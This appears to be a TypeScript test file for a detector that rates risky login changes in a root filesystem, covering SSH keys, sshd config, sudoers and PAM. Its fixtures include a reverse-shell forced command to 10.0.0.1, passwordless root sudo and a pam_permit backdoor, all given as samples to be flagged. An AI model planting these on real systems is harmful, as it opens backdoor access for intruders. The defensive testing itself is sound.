import assert from 'node:assert/strict';
import { test } from 'node:test';
import { saidOfTexts, textRow } from './changes.fixture.ts';
import { pamChanged, sshdWeakened, sshKeyAdded, sudoersChanged } from './login-changed.ts';

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJd0 x@kit\n';

test('a key that lets somebody in is told; worse with a command of an intruder', () => {
  const path = '/root/.ssh/authorized_keys';
  assert.deepEqual(saidOfTexts(sshKeyAdded, textRow(path, KEY)), [`medium rootfs${path}`]);
  assert.deepEqual(saidOfTexts(sshKeyAdded, textRow(path, `command="bash -i >/dev/tcp/10.0.0.1/80" ${KEY}`)), [
    `high rootfs${path}`,
  ]);
});

test('a key that the image has, and a file without any, are nothing', () => {
  const path = '/home/git/.ssh/authorized_keys';
  assert.deepEqual(saidOfTexts(sshKeyAdded, textRow(path, KEY, { before: KEY })), []);
  assert.deepEqual(saidOfTexts(sshKeyAdded, textRow(path, '# keys\n')), []);
});

test('a server that lets root in is weaker, one on another port is not', () => {
  const path = '/etc/ssh/sshd_config';
  assert.deepEqual(saidOfTexts(sshdWeakened, textRow(path, 'PermitRootLogin yes\n')), [`medium rootfs${path}`]);
  assert.deepEqual(saidOfTexts(sshdWeakened, textRow(path, 'Port 2222\nPermitRootLogin no\n')), [`low rootfs${path}`]);
  assert.deepEqual(saidOfTexts(sshdWeakened, textRow(path, '#PermitRootLogin yes\n')), []);
});

test('sudo without a password is told, the lines of every distribution are not', () => {
  const path = '/etc/sudoers.d/app';
  assert.deepEqual(saidOfTexts(sudoersChanged, textRow(path, 'app ALL=(ALL) NOPASSWD: ALL\n')), [
    `medium rootfs${path}`,
  ]);
  assert.deepEqual(
    saidOfTexts(
      sudoersChanged,
      textRow('/etc/sudoers', 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n'),
    ),
    [],
  );
});

test('PAM that runs a program or lets everybody in is worse than a new service', () => {
  const path = '/etc/pam.d/sshd';
  assert.deepEqual(saidOfTexts(pamChanged, textRow(path, 'auth sufficient pam_permit.so\n')), [`high rootfs${path}`]);
  assert.deepEqual(saidOfTexts(pamChanged, textRow(path, 'auth required pam_unix.so\n')), [`medium rootfs${path}`]);
  assert.deepEqual(saidOfTexts(pamChanged, textRow(path, '# PAM\n')), []);
});
